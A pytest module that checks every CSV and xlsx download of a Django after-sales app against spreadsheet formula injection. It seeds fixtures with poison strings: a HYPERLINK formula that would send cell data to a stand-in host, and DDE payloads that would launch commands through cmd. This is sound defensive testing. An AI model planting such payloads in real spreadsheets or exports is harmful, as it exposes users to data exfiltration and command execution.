"""Formula injection in the downloads (issue #15): every spreadsheet URL of the app (the screens and the
Django admin's django-import-export export), fetched with poisoned text in every column it can carry,
gives no live formula — a CSV cell starting with = + - @ carries a leading `'`, an xlsx cell is text
(never a formula element) with the quote-prefix style. All of them go through `aftersales.exports`.

`EXPORTS` names every export URL by hand; `test_every_export_url_is_in_the_table` finds them in the URL
resolver (a route or name with "export", "csv" or "xlsx", or a `fmt` argument) and fails when one is
missing from the table, so a new download is walked with the poison too.
"""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass, field

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from import_export.forms import SelectableFieldsExportForm
from openpyxl import load_workbook

from accounts.models import Role
from parts.resources import PartResource
from reports import export_jobs
from reports.models import Export as ReportExport
from tests.accounts.factories import BranchFactory, UserFactory
from tests.customers.factories import CustomerFactory, UnitFactory
from tests.parts.factories import PartFactory, SupplierFactory, WarehouseFactory
from tests.reports.factories import local, survey
from tests.tickets.factories import TicketFactory
from tickets.models import FaultCode
from tickets.resources import FaultCodeResource

HYPERLINK = '=HYPERLINK("http://x/?d="&A2,"点击")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3"
POISONS = (HYPERLINK, AT_SUM, PLUS, MINUS)
# What Excel and LibreOffice read as the start of a formula in a CSV cell.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@dataclass(frozen=True)
class Export:
    formats: tuple[str, ...]
    kwargs: dict[str, str] = field(default_factory=dict)  # "warehouse" → the poisoned world's warehouse
    query: dict[str, str] = field(default_factory=dict)
    admin_form: bool = False  # django-import-export's admin: POST the format and the columns
    resource: type = PartResource  # the admin form's resource (its columns are posted)
    other_formats: tuple[str, ...] = ()  # what the URL also serves that is no spreadsheet
    fmt_in_url: bool = True  # False: one URL per format (the API's), no `fmt` to fill
    started_by: str = ""  # a file built by the export task (issue #20): POST here, run the task, download


EXPORTS: dict[str, Export] = {
    "parts:catalogue_export": Export(("csv", "xlsx")),
    "parts:counts_export": Export(("csv", "xlsx"), kwargs={"pk": "warehouse"}),
    "reports:monthly_export": Export(("csv", "xlsx"), query={"month": "2026-10"}, other_formats=("pdf",)),
    "reports:quality_export": Export(("xlsx",), query={"month": "2026-10"}, other_formats=("pdf",)),
    # The same monthly report over the API (reports/api.py).
    "api-monthly-report-csv": Export(("csv",), query={"month": "2026-10"}, fmt_in_url=False),
    "api-monthly-report-xlsx": Export(("xlsx",), query={"month": "2026-10"}, fmt_in_url=False),
    "reports:call_register_export": Export(
        ("csv", "xlsx"), query={"date_from": "2026-10-01", "date_to": "2026-10-31"}
    ),
    "reports:ticket_export": Export(("csv", "xlsx")),
    # The monthly report built by the export task (reports.export_jobs), downloaded once done.
    "reports:export_download": Export(
        ("csv", "xlsx"),
        query={"month": "2026-10"},
        started_by="reports:monthly_export_start",
        fmt_in_url=False,
    ),
    "admin:parts_part_export": Export(("csv", "xlsx"), admin_form=True),
    "admin:tickets_faultcode_export": Export(("csv", "xlsx"), admin_form=True, resource=FaultCodeResource),
}


# Named like downloads but no file: the long exports' pages and POSTs (their files come from
# reports:export_download) and the admin's read-only list of the Export rows.
NOT_FILES = {
    "reports:monthly_export_start",
    "reports:ticket_export_start",
    "reports:exports",
    "reports:export_detail",
    *(f"admin:reports_export_{page}" for page in ("changelist", "add", "history", "delete", "change")),
}


# Downloads walked with formula text elsewhere, or holding nobody's text.
WALKED_ELSEWHERE = {
    # Its rows are written by the services, not by the poisoned world's factories.
    "audit:export": "tests/audit/test_audit_trail.py::TestScreen::test_the_export_is_streamed_and_neutralises_formulas",
    "tickets:callbook_template": "the call book's headers and one fixed sample row",
}


def url_patterns(resolver=None, namespace=""):
    for entry in (resolver or get_resolver()).url_patterns:
        if isinstance(entry, URLResolver):
            yield from url_patterns(entry, namespace + (f"{entry.namespace}:" if entry.namespace else ""))
        elif isinstance(entry, URLPattern) and entry.name:
            yield namespace + entry.name, entry


def is_export(name: str, pattern: URLPattern) -> bool:
    route = str(pattern.pattern)
    words = ("export", "csv", "xlsx")
    return any(word in route or word in name for word in words) or "fmt" in pattern.pattern.regex.groupindex


def test_every_export_url_is_in_the_table():
    found = (
        {name for name, pattern in url_patterns() if is_export(name, pattern)}
        - NOT_FILES
        - WALKED_ELSEWHERE.keys()
    )
    assert found - EXPORTS.keys() == set(), "a new download: add it to EXPORTS so the poison walks it"
    assert EXPORTS.keys() - found == set(), "EXPORTS names a URL that is gone"


@pytest.fixture
def poisoned(db):
    """One of everything the downloads list, with formula text in the columns people type."""
    branch = BranchFactory(code="SH", name="上海分公司")
    headquarters = BranchFactory(code="HQ", name="总部", headquarters=True)
    boss = UserFactory(
        username="boss", branch=headquarters, roles=[Role.ADMIN], is_staff=True, is_superuser=True
    )
    supplier = SupplierFactory(code="S-1", name=AT_SUM)
    PartFactory(code="P-1", name=HYPERLINK, specification=AT_SUM, unit="+件", supplier=supplier)
    warehouse = WarehouseFactory(code="SH-STORE", branch=branch)
    technician = UserFactory(username="tech", last_name=MINUS, branch=branch, roles=[Role.TECHNICIAN])
    customer = CustomerFactory(name=HYPERLINK, address=AT_SUM, branch=branch)
    ticket = TicketFactory(
        number="SH-20261010-0001",
        unit=UnitFactory(owner=customer, serial_number="SN-1"),
        technician=technician,
        state="closed",
        service_category="A",
        fault_description=PLUS,
        reported_at=local(2026, 10, 10, 9),
        completed_at=local(2026, 10, 10, 15),
    )
    survey(ticket, (1, 1, 1, 1), answered_at=local(2026, 10, 11, 10), comment=HYPERLINK)
    ticket.fault_code = FaultCode.objects.create(
        product_model=ticket.unit.product_model, code=MINUS, symptom=HYPERLINK, likely_cause=AT_SUM
    )
    ticket.save(update_fields=["fault_code"])
    return {"user": boss, "warehouse": warehouse}


def download(client, world, name: str, export: Export, fmt: str) -> bytes:
    if export.admin_form:
        resource = SelectableFieldsExportForm.create_boolean_field_name
        columns = {resource(export.resource, column): "on" for column in export.resource().get_export_order()}
        response = client.post(
            reverse(name), {"format": ["csv", "xlsx"].index(fmt), "resource": 0, **columns}
        )
    elif export.started_by:
        started = client.post(reverse(export.started_by), {**export.query, "fmt": fmt})
        assert started.status_code == 302, started.content[:500]
        built = ReportExport.objects.latest("pk")
        assert export_jobs.run(built.pk) == ReportExport.State.DONE
        response = client.get(reverse(name, args=[built.pk]))
    else:
        kwargs = {key: world[value].pk for key, value in export.kwargs.items()}
        if export.fmt_in_url:
            kwargs["fmt"] = fmt
        response = client.get(reverse(name, kwargs=kwargs), export.query)
    assert response.status_code == 200, response.content[:500]
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(body: bytes) -> list:
    book = load_workbook(io.BytesIO(body))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize(
    "name, fmt", [(name, fmt) for name, export in EXPORTS.items() for fmt in export.formats]
)
def test_text_typed_as_a_formula_stays_text_in_every_download(client, poisoned, name, fmt):
    client.force_login(poisoned["user"])
    body = download(client, poisoned, name, EXPORTS[name], fmt)
    if fmt == "csv":
        cells = csv_cells(body)
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
        assert {"'" + poison for poison in POISONS} & set(cells), "the poisoned rows are in the file"
    else:
        cells = xlsx_cells(body)
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        like_formulas = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith("=")]
        assert like_formulas, "the poisoned rows are in the file"
        assert all(cell.quotePrefix for cell in like_formulas)
